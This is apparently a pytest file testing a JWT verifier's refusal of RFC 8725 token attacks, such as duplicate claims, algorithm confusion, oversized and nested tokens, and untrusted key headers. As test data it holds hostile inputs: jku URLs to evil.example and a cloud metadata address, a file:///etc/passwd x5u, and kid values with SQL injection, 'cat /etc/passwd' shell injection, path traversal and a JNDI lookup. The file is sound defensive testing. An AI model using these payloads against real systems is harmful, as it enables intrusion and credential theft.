"""RFC 8725: attacks on what a token says: its encoding, its claims, its header. See ``test_rfc8725.py``."""

from __future__ import annotations

import msgspec
import pytest
from tests.tokens.kit import (
    AUDIENCE,
    ISSUER,
    USER,
    Clock,
    Provider,
    assert_refused,
    base64url,
    claims,
    forge,
    key_for,
    mac_with,
    remote,
    signature_by,
    signed_raw,
    signed_with,
    token,
    verifier,
    with_signature,
)

from cadenza.errors import ConfigurationError, TokenFormatError, TokenInvalidError
from cadenza.tokens.compact import MAX_TOKEN_CHARACTERS
from cadenza.tokens.jwks import StaticKeySet
from cadenza.tokens.keys import MAX_KID_CHARACTERS
from cadenza.tokens.signer import SigningKey
from cadenza.tokens.verifier import Verifier

# 2.6 Multiplicity of JSON encodings; 3.7 use UTF-8


@pytest.mark.parametrize(
    "payload",
    [
        '{"sub":"ü"}'.encode("latin-1"),
        '{"sub":"u"}'.encode("utf-16-le"),
        '{"sub":"u"}'.encode("utf-16-be"),
        '{"sub":"u"}'.encode("utf-32"),
        b'\xef\xbb\xbf{"sub":"u"}',
        b'{"sub":"\xc0\x80"}',
        b'{"sub":"\xed\xa0\x80"}',
    ],
)
async def test_claims_are_utf_8_and_nothing_else(payload: bytes) -> None:
    """Sections 2.6 and 3.7."""
    assert isinstance(await assert_refused(signed_raw(payload)), TokenFormatError)


async def test_a_user_may_have_any_name_in_utf_8() -> None:
    """Section 3.7."""
    assert (await verifier().verify(token(sub="用户-ü-\U0001f600"))).sub == "用户-ü-\U0001f600"


@pytest.mark.parametrize(
    "twice",
    [
        b'"sub":"user","sub":"admin"',
        b'"exp":1,"exp":9999999999',
        b'"iss":"x","\\u0069ss":"y"',
        b'"user_metadata":{"a":{"role":1,"role":2}}',
    ],
)
async def test_claims_that_say_a_thing_twice_are_refused(twice: bytes) -> None:
    """Section 2.6; RFC 7519 section 4: two readers would believe two things."""
    rest = msgspec.json.encode(claims(sub=None, exp=None, iss=None, user_metadata=None))[1:-1]
    assert isinstance(await assert_refused(signed_raw(b"{" + twice + b"," + rest + b"}")), TokenFormatError)


@pytest.mark.parametrize(
    "header",
    [
        b'{"alg":"none","alg":"ES256","kid":"key-1"}',
        b'{"alg":"ES256","kid":"key-1","alg":"none"}',
        b'{"alg":"ES256","kid":"key-1","kid":"key-2"}',
        b'{"alg":"ES256","kid":"key-1","jwk":{"kty":"EC","kty":"RSA"}}',
    ],
)
async def test_a_header_that_says_a_thing_twice_is_refused(header: bytes) -> None:
    """Section 2.6; RFC 7515 section 4."""
    text = forge(header, claims(), signature_by(key_for()))
    assert isinstance(await assert_refused(text), TokenFormatError)


async def test_every_other_spelling_of_a_good_token_is_refused() -> None:
    """Section 2.6: white space, padding, empty parts, the other alphabet, stray bits."""
    good = token()
    head, payload, signature = good.split(".")
    stray = signature[:-1] + chr(ord(signature[-1]) + 1)
    spellings = [
        f" {good}",
        f"{good}\n",
        f"{good}=",
        f"{good}.",
        f".{good}",
        f"{head}.{payload}.",
        f"{head}..{signature}",
        f".{payload}.{signature}",
        f"{head} .{payload}.{signature}",
        f"{head}.{payload}.{stray}",
        f"{head}.{payload}.{signature}\u200b",
        good.replace("e", "\uff45"),
        f"Bearer {good}",
        f'"{good}"',
    ]
    for spelling in spellings:
        assert isinstance(await assert_refused(spelling), TokenFormatError), spelling


# 2.7 Substitution attacks; 3.8 and 3.9 issuer, subject, audience


async def test_a_token_of_another_issuers_key_is_refused() -> None:
    """Sections 2.7 and 3.8: the same claims, the same ``kid``, another provider's key."""
    stranger = SigningKey.generate("ES256", kid="key-1")
    assert isinstance(await assert_refused(token(stranger)), TokenInvalidError)


async def test_a_token_for_someone_else_is_refused() -> None:
    """Sections 2.7 and 3.9: our provider, our key, another application."""
    await assert_refused(token(aud="another-application"))
    await assert_refused(token(iss="https://another.supabase.co/auth/v1"))
    await assert_refused(token(aud=None))
    await assert_refused(token(iss=None))


@pytest.mark.parametrize("sub", [42, True, ["admin"], {"id": 1}, 1.5])
async def test_a_subject_is_text(sub: object) -> None:
    """Section 3.8; seen: Centrifugo closes with 3500 on a numeric ``sub``."""
    assert isinstance(await assert_refused(signed_raw(msgspec.json.encode(claims(sub=sub)))), TokenFormatError)


async def test_parts_of_two_good_tokens_make_no_third() -> None:
    """Section 2.7."""
    user, admin = token(), token(sub="admin")
    swapped = f"{admin.rpartition('.')[0]}.{user.rpartition('.')[2]}"
    await assert_refused(swapped)
    eddsa = token(key_for("EdDSA", kid="other"))
    await assert_refused(f"{eddsa.split('.')[0]}.{user.split('.', 1)[1]}")


# 2.8 Cross-JWT confusion; 3.11 explicit typing; 3.12 exclusive rules


@pytest.mark.parametrize("typ", [None, "JWT", "jwt", "at+jwt", "application/at+jwt", "application/JWT"])
async def test_the_types_of_access_tokens_are_accepted(typ: str | None) -> None:
    """Section 3.11. Supabase says ``JWT`` where RFC 9068 wants ``at+jwt``; issuer and audience make up for it."""
    assert (await verifier().verify(signed_with({"typ": typ}))).sub == USER


@pytest.mark.parametrize(
    "typ", ["", "dpop+jwt", "logout+jwt", "secevent+jwt", "id+jwt", "JOSE", "application/", "kb+jwt"]
)
async def test_a_jwt_of_another_kind_is_no_access_token(typ: str) -> None:
    """Sections 2.8, 3.11 and 3.12."""
    assert isinstance(await assert_refused(signed_with({"typ": typ})), TokenInvalidError)


async def test_a_subscription_token_is_no_connection_token() -> None:
    """Sections 2.8 and 3.12; row A10: a ``channel`` claim makes it another kind."""
    assert isinstance(await assert_refused(token(channel="tradingAccount:1")), TokenInvalidError)


@pytest.mark.parametrize("cty", ["JWT", "jwt", "application/jwt", "anything", "", None, 1])
async def test_a_token_in_a_token_is_refused(cty: object) -> None:
    """Section 2.8; RFC 7519 section 5.2: nested."""
    header = msgspec.json.encode({"alg": "ES256", "kid": "key-1", "cty": cty})
    inner = token()
    sign = signature_by(key_for())
    assert isinstance(await assert_refused(forge(header, claims(), sign)), TokenInvalidError)
    await assert_refused(forge(header, inner.encode(), sign))
    await assert_refused(forge({"alg": "ES256", "kid": "key-1"}, inner.encode(), sign))
    await assert_refused(forge({"alg": "ES256", "kid": "key-1"}, msgspec.json.encode(inner), sign))


# 2.9 Indirect attacks on the server; 3.10 do not trust received claims


async def test_a_key_that_comes_with_the_token_is_not_looked_at() -> None:
    """Sections 2.9 and 3.10: ``jwk``, ``jku``, ``x5u``, ``x5c``, whatever they say, cause no request and no belief."""
    mallory = SigningKey.generate("ES256", kid="mallory")
    provider = Provider(key_for())
    checker = verifier(remote(provider, Clock()), Clock())
    await checker.verify(token())
    gifts: list[dict[str, object]] = [
        {"jwk": mallory.public_jwk()},
        {"jku": "https://evil.example/jwks.json"},
        {"jku": "http://169.254.169.254/latest/meta-data/"},
        {"x5u": "file:///etc/passwd"},
        {"x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA"},
    ]
    for gift in gifts:
        for kid in ("key-1", "mallory"):
            await assert_refused(signed_with({"kid": kid, **gift}, mallory), checker)
        # In a token of the provider's own they are as meaningless.
        assert (await checker.verify(signed_with(gift))).sub == USER
    assert provider.fetches == 2  # one for the first token, one in thirty seconds for all unknown ids


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "key-1' OR '1'='1",
        "x' UNION SELECT 'secret'--",
        "key-1; cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/key",
        "key-1\x00",
        "KEY-1",
        " key-1",
        "__class__",
        "k" * MAX_KID_CHARACTERS,
    ],
)
async def test_a_key_id_is_a_name_to_look_up_and_nothing_else(kid: str) -> None:
    """Section 3.10: injection through ``kid``; an empty key or file would make any MAC right."""
    await assert_refused(signed_with({"kid": kid}))
    for secret in (b"", b"\x00", b"secret"):
        await assert_refused(forge({"alg": "HS256", "kid": kid}, claims(), mac_with(secret)))


@pytest.mark.parametrize("kid", ["", "k" * (MAX_KID_CHARACTERS + 1), "k" * 10_000, None])
async def test_a_key_id_that_cannot_be_one_is_not_even_asked_for(kid: str | None) -> None:
    """Section 3.10."""
    provider = Provider(key_for())
    await assert_refused(signed_with({"kid": kid}), verifier(remote(provider, Clock())))
    assert provider.fetches == 0


@pytest.mark.parametrize("kid", [1, True, ["key-1"], {"a": 1}])
async def test_a_key_id_is_text(kid: object) -> None:
    """Section 3.10."""
    assert isinstance(await assert_refused(signed_with({"kid": kid})), TokenFormatError)


@pytest.mark.parametrize(
    "header",
    [
        {"crit": []},
        {"crit": ["exp"], "exp": 1},
        {"crit": ["b64"], "b64": False},
        {"b64": False},
        {"b64": True},
        {"crit": ["http://example.com/UNDEFINED"]},
    ],
)
async def test_an_extension_we_do_not_understand_is_refused(header: dict[str, object]) -> None:
    """Section 3.10; RFC 7515 section 4.1.11, RFC 7797."""
    assert isinstance(await assert_refused(signed_with(header)), TokenInvalidError)


@pytest.mark.parametrize("where", ["header", "claims", "signature"])
async def test_a_huge_token_costs_nothing(where: str) -> None:
    """Section 2.9: refused by its length, before it is decoded or hashed, and no key is asked for."""
    provider = Provider(key_for())
    checker = verifier(remote(provider, Clock()))
    sign = signature_by(key_for())
    texts = {
        "header": forge({"alg": "ES256", "kid": "key-1", "x": "x" * 20_000}, claims(), sign),
        "claims": token(user_metadata={"x": "x" * 20_000}),
        "signature": with_signature(token(), b"x" * 20_000),
    }
    assert len(texts[where]) > MAX_TOKEN_CHARACTERS
    assert isinstance(await assert_refused(texts[where], checker), TokenFormatError)
    assert provider.fetches == 0


@pytest.mark.parametrize("part", ["header", "claims"])
async def test_json_nested_without_end_is_refused(part: str) -> None:
    """Section 2.9."""
    deep = b'{"a":' * 1_500 + b"1" + b"}" * 1_500
    sign = signature_by(key_for())
    whole = b'{"alg":"ES256","kid":"key-1","x":' + deep + b"}"
    text = forge(whole, claims(), sign) if part == "header" else signed_raw(deep)
    assert isinstance(await assert_refused(text), TokenFormatError)


# 3.1 Algorithm verification; 3.2 appropriate algorithms


@pytest.mark.parametrize(
    "alg", ["HS256", "HS384", "HS512", "ES384", "ES512", "ES256K", "RS1", "RS384", "RS512", "PS256", "Ed25519", "Ed448"]
)
async def test_the_list_of_algorithms_is_the_callers(alg: str) -> None:
    """Sections 3.1 and 3.2: the token's ``alg`` is compared with the list, never looked up."""
    assert isinstance(await assert_refused(signed_with({"alg": alg})), TokenInvalidError)


async def test_an_algorithm_left_out_of_the_list_is_refused_though_its_key_is_there() -> None:
    """Section 3.1."""
    keys = StaticKeySet([key_for().public_jwk(), key_for("RS256", kid="rsa").public_jwk()])
    checker = verifier(keys, algorithms=["RS256"])
    assert (await checker.verify(token(key_for("RS256", kid="rsa")))).alg == "RS256"
    await assert_refused(token(), checker)


# 3.5 Keys with sufficient entropy


def test_short_keys_are_neither_verified_nor_signed_with() -> None:
    """Section 3.5; RFC 7518 sections 3.2 and 3.3."""
    weak_rsa = {**key_for("RS256").public_jwk(), "n": base64url(b"\xf1" * 128)}
    with pytest.raises(ConfigurationError):
        StaticKeySet([weak_rsa])
    with pytest.raises(ConfigurationError):
        SigningKey.from_jwk({"kty": "oct", "k": base64url(b"x" * 31)})


def test_the_verifier_is_bound_to_one_issuer_and_one_audience() -> None:
    """Sections 3.8, 3.9 and 3.12: without them it does not start (row A4)."""
    for issuer, audience in (("", AUDIENCE), (ISSUER, "")):
        with pytest.raises(ConfigurationError):
            Verifier(StaticKeySet([]), issuer=issuer, audience=audience, clock=Clock())
